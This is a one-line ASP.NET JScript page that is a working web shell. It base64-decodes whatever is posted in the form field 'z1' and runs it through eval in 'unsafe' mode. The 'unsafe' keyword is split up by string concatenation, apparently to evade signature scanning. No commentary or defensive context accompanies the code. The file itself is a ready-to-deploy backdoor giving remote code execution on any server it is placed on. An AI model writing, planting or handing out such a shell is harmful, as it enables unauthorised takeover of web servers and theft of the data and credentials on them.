<%@ Page Language="Jscript" inert %><%var k="un"+"sa"+"fe";var s=System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form["z1"]));eval(s,k);%>
